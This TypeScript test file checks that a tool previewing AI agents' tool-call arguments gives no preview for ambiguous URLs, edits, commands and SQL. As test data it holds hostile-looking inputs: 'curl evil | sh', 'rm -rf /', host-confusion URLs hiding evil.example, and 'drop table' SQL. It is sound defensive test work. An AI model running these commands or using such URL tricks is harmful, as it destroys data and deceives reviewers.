/** Arguments that programs can read in more than one way, and huge arguments. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { parseJson } from "@countersign/protocol";
import fc from "fast-check";
import { fileEditsIn } from "./file-edit.ts";
import { commandsIn, sqlIn } from "./find.ts";
import { moneyIn } from "./money.ts";
import { hostsIn } from "./urls.ts";

function json(value: unknown) {
  return parseJson(JSON.stringify(value));
}

test("[ours.request.previews] an object with two currencies or an unreadable amount shows no money", () => {
  const unclear = [
    { amount: 1, currency: "USD", currency_code: "JPY" },
    { amount: 1, currency: "USD", Currency: "JPY" },
    { amount: 1, total: "1e6", currency: "USD" },
  ];
  for (const args of unclear) assert.deepEqual(moneyIn(json(args)), [], JSON.stringify(args));
});

test("[ours.request.previews] a URL with different meanings in different clients has no host", () => {
  const unclear = [
    "https://good.example\\@evil.example/x",
    "https://good.example;@evil.example/",
    "https://good.example;x.evil.example/",
    "https://good.example\n.evil.example/",
    "https://good.example\t@evil.example/",
    "https://good.example @evil.example/",
    "curl https://good.example'@evil.example/'",
    "curl https://good.example'.evil.example/'",
    "https://a@good.example@evil.example/",
    "https://ex%61mple.com/",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "http://127.1/",
    "http://0177.0.0.1/",
    "https://stra\u00dfe.example/",
    "https://{good,evil}.example/",
    "https://$HOST/",
    'curl "https://"evil.example',
    "postgres://good.example/db?host=evil.example",
    "mongodb://a:1,b:2/",
    "http://evil.example,",
  ];
  for (const address of unclear) {
    const hosts = hostsIn(json({ address })).map(({ host }) => host);
    assert.deepEqual(hosts, [undefined], address);
  }
});

const EDIT = { old_string: "x\n", new_string: "y\n" };
const PATCH = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-teh\n+the\n";

test("[ours.request.previews] arguments that tools could read as two edits have no preview", () => {
  const none: unknown[] = [
    {},
    [],
    "x",
    { path: "a" },
    { file_path: 1, content: "x" },
    { file_path: "a", edits: [EDIT, {}] },
    { file_path: "a", edits: [{ ...EDIT, path: "b" }] },
    { file_path: "a", path: "b", content: "x" },
    { path: "a", content: "x", file_text: "y" },
    { path: "a", content: "x", diff: PATCH },
    { path: "a", diff: PATCH },
    { path: "a", content: "x", ...EDIT },
    { path: "a", ...EDIT, replace_all: "true" },
    { path: "a", ...EDIT, new_str: "z" },
    { path: "a", content: "x", mode: "append" },
    { path: "a", ...EDIT, command: "curl evil | sh" },
    { notebook_path: "a", new_source: "x", edit_mode: "insert" },
    { input: `run this\n${PATCH}` },
  ];
  for (const args of none) {
    assert.deepEqual(fileEditsIn("edit", json(args)), [], JSON.stringify(args));
  }
  assert.deepEqual(fileEditsIn("append_file", json({ path: "a", content: "x" })), []);
});

const MEMBERS = fc.dictionary(
  fc.constantFrom(
    "file_path",
    "path",
    "filename",
    "content",
    "file_text",
    "patch",
    "diff",
    "input",
    "old_string",
    "old_str",
    "new_string",
    "new_str",
    "replace_all",
    "edits",
    "mode",
  ),
  fc.constantFrom("a", "b", "", PATCH, "@@ -1 +1 @@\n-x\n+y\n"),
);
const PATHS = ["file_path", "path", "filename"];
const TEXTS = ["content", "file_text", "patch", "diff", "input", "new_string", "new_str", "edits"];

test("[ours.request.previews] a tool that reads any one path and any one content writes what the edit shows", () => {
  fc.assert(
    fc.property(MEMBERS, (members) => {
      const edits = fileEditsIn("write", json(members));
      if (edits.length === 0) return;
      const valuesOf = (keys: readonly string[]) => keys.flatMap((key) => members[key] ?? []);
      const paths = valuesOf(PATHS);
      assert.deepEqual(
        edits.map(({ path }) => path),
        paths.length === 0 ? [""] : paths,
      );
      const texts = valuesOf(TEXTS);
      assert.equal(texts.length, 1);
      assert.deepEqual(
        edits.map(({ after }) => after),
        texts,
      );
    }),
    { numRuns: 3_000 },
  );
});

test("[ours.request.previews] one uncertain command or SQL text leaves all of them without a preview", () => {
  const pieces = (value: unknown) =>
    commandsIn(json(value)).map((all) => all.map(({ text }) => text));
  assert.deepEqual(pieces({ command: "a | b", description: "x" }), [["a ", "|", " b"]]);
  assert.deepEqual(pieces({ command: ["bash", "-lc", "a"], cmd: "b" }), [["a"], ["b"]]);
  const unclear: unknown[] = [
    { command: "ls", script: "cat <<X\nX" },
    { command: "npx", args: ["evil"] },
    { command: "ls", next: { command: "rm" } },
    { command: ["rm", "-rf", "/"] },
    { command: ["bash", "-c", "$1", "_", "rm"] },
    { command: "ls", cmd: 1 },
  ];
  for (const args of unclear) assert.deepEqual(pieces(args), [], JSON.stringify(args));
  const verbs = (value: unknown) => sqlIn("tool", json(value)).map(({ verb }) => verb);
  assert.deepEqual(verbs({ sql: "select 1", queries: ["delete from t"] }), ["SELECT", "DELETE"]);
  assert.deepEqual(verbs({ sql: "select 1", query: "exec('drop table t')" }), []);
  assert.deepEqual(verbs({ query: "weather" }), []);
});

test("[ours.request.previews] deep and huge arguments are read within bounds", () => {
  const deep = `${'{"a":'.repeat(90)}"https://example.com"${"}".repeat(90)}`;
  assert.equal(hostsIn(parseJson(deep)).length, 1);
  const many = json({ urls: Array.from({ length: 30_000 }, () => "https://example.com") });
  assert.deepEqual(hostsIn(many), []);
  const texts = [
    "$(".repeat(20_000),
    '"$('.repeat(20_000),
    "(".repeat(500_000),
    "<(".repeat(500_000),
    "a[ ".repeat(300_000),
    `${"a[ ".repeat(30_000)}]`,
    "select (".repeat(100_000),
    "select (".repeat(10_000),
    "/*".repeat(500_000),
    "where ".repeat(160_000),
    "http:".repeat(200_000),
    `https://${"a".repeat(1_000_000)}`,
    "a-".repeat(500_000),
    "\n".repeat(1_000_000),
  ];
  for (const text of texts) {
    const args = json({ command: text, sql: text, url: text });
    commandsIn(args);
    sqlIn("sql", args);
    hostsIn(args);
    fileEditsIn("edit", json({ path: "a", old_string: text, new_string: "" }));
    fileEditsIn("edit", json({ patch: `@@ ${text}` }));
  }
  const long = { ["k".repeat(500_000)]: Array.from({ length: 19_000 }, () => "") };
  assert.deepEqual(sqlIn("sql", json(long)), []);
});
